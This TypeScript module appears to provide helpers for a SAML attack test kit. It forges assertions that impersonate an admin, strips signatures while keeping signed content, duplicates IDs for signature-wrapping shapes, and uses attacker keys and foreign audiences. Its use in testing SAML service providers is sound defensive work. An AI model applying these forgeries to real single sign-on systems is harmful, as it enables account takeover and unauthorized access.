import type { IdpKeys } from '../keys.ts';
import {
  buildSamlResponseXml,
  randomSamlId,
  resolveOptions,
  type SamlResponseOptions,
  toSamlResponse,
} from '../response.ts';
import {
  child,
  descendants,
  NS,
  parseXml,
  removeSignature,
  serializeXml,
  setText,
  type XDocument,
  type XElement,
} from '../xml.ts';

export type AttackOptions = SamlResponseOptions & {
  /** Who the attacker wants to be: the NameID (and email) of forged assertions; default admin@roomscale.test. */
  evilNameId?: string;
  /** The attacker's own key pair, for the shapes signed by a key the SP does not trust. */
  attackerKeys?: IdpKeys;
  /** Another SP's (another team's) entity id, for the audience shape. */
  otherAudience?: string;
};

export const DEFAULT_EVIL_NAME_ID = 'admin@roomscale.test';

export const evilNameIdOf = (opts: AttackOptions) => opts.evilNameId ?? DEFAULT_EVIL_NAME_ID;

/**
 * What the attacker starts from: a genuine response of the IdP for `opts` (the attacker's own
 * account), signed as `sign` says, parsed, with the ids it was signed with.
 */
export function genuine(opts: AttackOptions, sign: { assertion: boolean; response: boolean }) {
  const o = resolveOptions({ ...opts, signAssertion: sign.assertion, signResponse: sign.response });
  const doc = parseXml(buildSamlResponseXml(o));
  const response = doc.documentElement!;
  const assertion = child(response, NS.saml, 'Assertion');
  return { doc, response, assertion, responseId: o.responseId, assertionId: o.assertionId };
}

/** Rewrites who `assertion` is about: its NameID and any email attribute become `nameId`. */
export function impersonate(assertion: XElement, nameId: string) {
  setText(child(child(assertion, NS.saml, 'Subject'), NS.saml, 'NameID'), nameId);
  for (const attribute of descendants(assertion, NS.saml, 'Attribute')) {
    if (attribute.getAttribute('Name') !== 'email') continue;
    for (const value of descendants(attribute, NS.saml, 'AttributeValue')) setText(value, nameId);
  }
}

/**
 * The attacker's assertion: a copy of `signed` without its signature, about the evil user, with
 * its own ID unless `keepId` (then two elements carry the same ID).
 */
export function evilCopy(signed: XElement, opts: AttackOptions, keepId = false): XElement {
  const evil = signed.cloneNode(true) as XElement;
  removeSignature(evil);
  if (!keepId) evil.setAttribute('ID', randomSamlId());
  impersonate(evil, evilNameIdOf(opts));
  return evil;
}

/** A copy of `signed` without its signature: its content still matches the signed digest. */
export function unsignedCopy(signed: XElement): XElement {
  const copy = signed.cloneNode(true) as XElement;
  removeSignature(copy);
  return copy;
}

/** samlp:Status/samlp:StatusDetail of `response`, made if missing (any content may go there). */
export function statusDetail(doc: XDocument, response: XElement): XElement {
  const status = child(response, NS.samlp, 'Status');
  const existing = descendants(status, NS.samlp, 'StatusDetail')[0];
  if (existing) return existing;
  const detail = doc.createElementNS(NS.samlp, 'samlp:StatusDetail');
  status.appendChild(detail);
  return detail;
}

export const finish = (doc: XDocument) => toSamlResponse(serializeXml(doc));

export function requireAttackerKeys(opts: AttackOptions): IdpKeys {
  if (!opts.attackerKeys)
    throw new Error('this attack needs attackerKeys (makeIdpKeys({ commonName: … }))');
  return opts.attackerKeys;
}
